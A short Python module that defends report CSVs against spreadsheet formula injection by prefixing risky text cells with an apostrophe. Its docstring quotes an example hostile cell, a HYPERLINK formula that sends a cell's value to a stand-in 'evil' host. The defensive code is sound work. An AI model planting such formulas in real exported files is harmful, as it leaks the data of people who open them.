"""CSV cells a spreadsheet will not run as formulas.

The report's CSVs carry text from the sources (model names, licences, errors). Excel,
LibreOffice and Google Sheets treat a cell starting with `=`, `+`, `-`, `@`, a tab or a
carriage return as a formula (`=HYPERLINK("http://evil/?"&A1, "click")`). Such text cells
get a leading apostrophe, which spreadsheets show as text and hide; numbers stay numbers.
"""

from __future__ import annotations

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralize(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` whose text cells cannot start a formula (vectorized per column)."""
    out = frame.copy()
    for column in out.columns:
        values = out[column]
        if pd.api.types.is_numeric_dtype(values) or pd.api.types.is_bool_dtype(values):
            continue
        text = values.astype("string")
        risky = text.str.startswith(FORMULA_STARTS).fillna(False).astype(bool)
        if risky.any():
            out[column] = values.where(~risky, "'" + text)
    return out
